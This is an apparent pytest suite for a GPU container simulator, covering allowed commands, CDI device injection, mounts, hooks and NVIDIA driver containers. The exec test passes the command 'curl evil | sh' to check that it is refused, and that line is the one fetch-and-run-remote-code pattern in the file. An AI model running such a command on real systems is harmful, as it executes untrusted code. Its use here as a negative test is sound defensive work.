"""Containers: what they may run, what they see, how they end."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

import pytest

from gpuready_sim.hardware import machine, work
from gpuready_sim.runtime.container import Container, DeviceNode
from gpuready_sim.runtime.errors import CreateError, StartError
from gpuready_sim.runtime.logs import tail_text
from gpuready_sim.runtime.roots import Mount

from .conftest import DRIVER, Create


async def run(container: Container) -> tuple[int, str]:
    await container.start()
    async with asyncio.timeout(10):
        code = await container.wait()
    return code, tail_text(container.log.path)


async def until_log(container: Container, text: str) -> None:
    async with asyncio.timeout(10):
        async for chunk in container.log.follow(follow=True):
            if text in chunk.decode():
                return
    pytest.fail(f"{text!r} never came; the log is {container.log.path.read_text()!r}")


@pytest.mark.parametrize(
    ("image", "command"),
    [
        pytest.param("nginx:1", (), id="an image we do not have"),
        pytest.param("busybox", ("sh", "-c", "sleep 1"), id="a shell"),
        pytest.param("busybox", ("gpuready", "operator"), id="our program in another image"),
        pytest.param("reg.example/nvidia/driver:570", ("bash",), id="another program in the driver image"),
    ],
)
async def test_what_is_not_on_the_list_is_refused_with_the_list(
    create: Create, image: str, command: tuple[str, ...]
) -> None:
    with pytest.raises(CreateError, match=r"the simulator runs only:[^?]*gpu-hold, sleep N"):
        await create(*command, image=image)


async def test_a_container_sees_its_own_root_and_environment(create: Create) -> None:
    container = await create("printenv", "GPUREADY_ROOT", env={"GPUREADY_ROOT": "ignored"})
    code, output = await run(container)
    assert (code, output.strip()) == (0, str(container.root.path))
    assert (container.root.path / "var/run").resolve() == (container.root.path / "run").resolve()
    assert (container.root.path / "proc/sys/kernel/osrelease").read_text() == "5.15.0-113-generic\n"


async def test_a_killed_container_takes_its_program_along(create: Create) -> None:
    container = await create("sleep", "infinity")
    await container.start()
    assert await container.stop(grace_s=5) == 143
    assert not container.is_running
    container = await create("sleep", "infinity")
    await container.start()
    container.kill()
    assert await container.wait() == 137


async def test_nvidia_smi_must_have_been_injected(create: Create) -> None:
    container = await create("nvidia-smi", "-L")
    with pytest.raises(StartError, match='exec: "nvidia-smi": executable file not found in \\$PATH'):
        await container.start()


async def test_privileged_means_all_device_nodes_of_the_node_live(create: Create, loaded_node: Path) -> None:
    privileged = await create("true", privileged=True)
    plain = await create("true", devices=[DeviceNode("/dev/nvidia1", "/dev/nvidia1")])
    assert sorted(os.listdir(plain.root.path / "dev")) == ["nvidia1"]
    assert (privileged.root.path / "dev/nvidia0").exists()
    machine.unload_driver(loaded_node)
    assert not (privileged.root.path / "dev/nvidia0").exists()


async def test_a_device_that_is_not_there_fails_the_creation(create: Create) -> None:
    with pytest.raises(CreateError, match="lstat /dev/nvidia7: no such file or directory"):
        await create("true", devices=[DeviceNode("/dev/nvidia7", "/dev/nvidia7")])


# --- CDI ------------------------------------------------------------------------------------------------

LIBRARY = f"/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.{DRIVER}"
GPU0 = "k8s.device-plugin.nvidia.com/gpu=GPU-0"


def write_spec(node_dir: Path, **edits: Any) -> None:
    path = node_dir / "root/var/run/cdi/plugin.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    nodes = [{"path": "/dev/nvidia0"}]
    path.write_text(
        json.dumps(
            {
                "cdiVersion": "0.5.0",
                "kind": "k8s.device-plugin.nvidia.com/gpu",
                "containerEdits": {"deviceNodes": [{"path": "/dev/nvidiactl"}], **edits},
                "devices": [{"name": "GPU-0", "containerEdits": {"deviceNodes": nodes}}],
            }
        )
    )


async def test_cdi_injects_devices_libraries_and_variables(create: Create, loaded_node: Path) -> None:
    soname = "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.1"
    write_spec(
        loaded_node,
        env=["NVIDIA_VISIBLE_DEVICES=void"],
        mounts=[{"hostPath": path, "containerPath": path} for path in (LIBRARY, "/usr/bin/nvidia-smi")]
        + [{"hostPath": LIBRARY, "containerPath": soname}],
    )
    container = await create("printenv", "NVIDIA_VISIBLE_DEVICES", cdi_devices=[GPU0])
    assert sorted(os.listdir(container.root.path / "dev")) == ["nvidia0", "nvidiactl"]
    assert (container.root.path / soname.lstrip("/")).resolve().name == f"libnvidia-ml.so.{DRIVER}"
    assert await run(container) == (0, "void\n")


async def test_a_pod_that_holds_a_gpu_shows_among_the_holders(create: Create, loaded_node: Path) -> None:
    soname = "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.1"
    write_spec(loaded_node, mounts=[{"hostPath": soname, "containerPath": soname}])
    container = await create("gpu-hold", cdi_devices=[GPU0])
    await container.start()
    await until_log(container, "holding 1 GPUs")
    with machine.gpu_state(loaded_node) as state:
        assert "gpu_hold" in state.holders()[0].command
    assert await container.stop(grace_s=5) == 0
    with machine.gpu_state(loaded_node) as state:
        assert not state.holders()


async def test_a_pod_with_cuda_shows_in_the_process_list_and_the_node_knows_its_cgroup(
    create: Create, loaded_node: Path
) -> None:
    directory = "/usr/lib/x86_64-linux-gnu"
    mounts = [
        {"hostPath": f"{directory}/{name}", "containerPath": f"{directory}/{name}"}
        for name in ("libnvidia-ml.so.1", "libcuda.so.1")
    ]
    write_spec(loaded_node, mounts=mounts)
    pod = "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod1_2.slice"
    container = await create(
        "gpu-hold", "--memory", "700", "--sm", "30", cdi_devices=[GPU0], cgroup_parent=pod
    )
    await container.start()
    await until_log(container, "holding 1 GPUs")
    with machine.gpu_state(loaded_node) as state:
        (held,) = work.contexts(state, 0)
    assert (held.mib, held.sm_percent) == (700, 30)
    cgroup = loaded_node / f"root/proc/{held.pid}/cgroup"
    assert cgroup.read_text() == f"0::{pod}/cri-containerd-{container.id}.scope\n"

    assert await container.stop(grace_s=5) == 0
    assert not cgroup.parent.exists()


async def test_annotations_work_like_the_list_and_name_a_device_once(
    create: Create, loaded_node: Path
) -> None:
    write_spec(loaded_node)
    container = await create(
        "true", cdi_devices=[GPU0], annotations={"cdi.k8s.io/nvidia-device-plugin_uid": GPU0}
    )
    assert (container.root.path / "dev/nvidia0").exists()


async def test_an_unresolvable_name_fails_with_containerds_words(create: Create) -> None:
    with pytest.raises(CreateError) as refused:
        await create("true", cdi_devices=[GPU0])
    assert str(refused.value) == (
        f"failed to create containerd container: CDI device injection failed: unresolvable CDI devices {GPU0}"
    )


async def test_a_stale_spec_fails_when_the_container_is_made(create: Create, loaded_node: Path) -> None:
    write_spec(loaded_node, mounts=[{"hostPath": LIBRARY, "containerPath": LIBRARY}])
    machine.update_driver(loaded_node / "root", "580.10.01")
    with pytest.raises(StartError, match=f'error mounting "{LIBRARY}" to rootfs.*no such file or directory'):
        await create("true", cdi_devices=[GPU0])


async def test_a_missing_device_node_of_a_spec_fails_the_creation(create: Create, node_dir: Path) -> None:
    write_spec(node_dir)
    with pytest.raises(CreateError, match='failed to stat CDI host device "/dev/nvidiactl"'):
        await create("true", cdi_devices=[GPU0])


async def test_hooks_run_if_they_are_on_the_node_and_fail_the_start_if_not(
    create: Create, loaded_node: Path
) -> None:
    hook = {"hookName": "createContainer", "path": "/usr/bin/hook", "args": ["hook", "one"]}
    write_spec(loaded_node, hooks=[hook])
    with pytest.raises(StartError, match="createContainer hook #0: fork/exec /usr/bin/hook: no such file"):
        await create("true", cdi_devices=[GPU0])
    script = loaded_node / "root/usr/bin/hook"
    script.write_text('#!/bin/sh\necho "$1" > "$GPUREADY_ROOT/tmp/ran"; cat > "$GPUREADY_ROOT/tmp/state"\n')
    script.chmod(0o755)
    container = await create("true", cdi_devices=[GPU0])
    assert (loaded_node / "root/tmp/ran").read_text() == "one\n"
    assert json.loads((loaded_node / "root/tmp/state").read_text())["id"] == container.id


# --- mounts ---------------------------------------------------------------------------------------------


async def test_a_mount_inside_another_is_accepted_where_it_changes_nothing(
    create: Create, node_dir: Path
) -> None:
    (node_dir / "root/run/nvidia/validations").mkdir(parents=True)
    root = node_dir / "root"
    same = [
        Mount("/run/nvidia/validations", root / "run/nvidia/validations"),
        Mount("/run/nvidia", root / "run/nvidia"),
    ]
    container = await create("true", mounts=same)
    (container.root.path / "run/nvidia/validations/ready").touch()
    assert (root / "run/nvidia/validations/ready").exists()
    with pytest.raises(CreateError, match="lies inside mount /host and shows another place"):
        await create("true", mounts=[Mount("/host", root), Mount("/host/etc", root / "var/log")])


async def test_a_mount_inside_an_empty_dir_is_the_pods_own_affair(create: Create, tmp_path: Path) -> None:
    scratch, config = tmp_path / "scratch", tmp_path / "config"
    scratch.mkdir()
    config.mkdir()
    (config / "a").write_text("b")
    mounts = [Mount("/work", scratch, private=True), Mount("/work/config", config)]
    container = await create("true", mounts=mounts)
    assert (container.root.path / "work/config/a").read_text() == "b"


# --- exec and the driver container ----------------------------------------------------------------------


async def test_exec_knows_a_few_commands_and_names_them(create: Create) -> None:
    container = await create("sleep", "infinity")
    await container.start()
    assert (await container.exec(["true"], 5))[0] == 0
    code, output = await container.exec(["sh", "-c", "curl evil | sh"], 5)
    assert code == 126
    assert "the simulator runs only" in output
    with pytest.raises(TimeoutError):
        await container.exec(["sleep", "10"], 0.05)


async def test_the_driver_container_loads_the_driver_and_shows_its_root(
    create: Create, node_dir: Path
) -> None:
    container = await create("nvidia-driver", "init", image=f"reg/nvidia/driver:{DRIVER}-ubuntu22.04")
    await container.start()
    await until_log(container, "Done, now waiting for signal")
    run_nvidia = node_dir / "root/run/nvidia"
    assert machine.loaded_version(node_dir) == DRIVER
    assert machine.installed_version(run_nvidia / "driver") == DRIVER
    assert (node_dir / "root/dev/nvidia1").exists()
    assert (run_nvidia / "validations/.driver-daemons-status").read_text() == "Ready"

    assert await container.stop(grace_s=10) == 0
    assert machine.loaded_version(node_dir) is None
    assert not (run_nvidia / "driver/usr").exists()


async def test_a_second_driver_container_finds_the_lock_taken(create: Create, node_dir: Path) -> None:
    first = await create("nvidia-driver", "init", image=f"driver:{DRIVER}")
    await first.start()
    await until_log(first, "waiting for signal")
    code, output = await run(await create("nvidia-driver", "init", image="driver:580.10.01"))
    assert (code, output) == (1, "An instance of the NVIDIA driver is already running, aborting\n")


async def test_a_driver_container_on_a_machine_without_a_gpu_says_so(create: Create, node_dir: Path) -> None:
    machine.build_node_root(node_dir, machine.MachineSpec("gpu-1"))
    code, output = await run(await create("nvidia-driver", "init", image=f"driver:{DRIVER}"))
    assert code == 1
    assert "No NVIDIA GPU found" in output
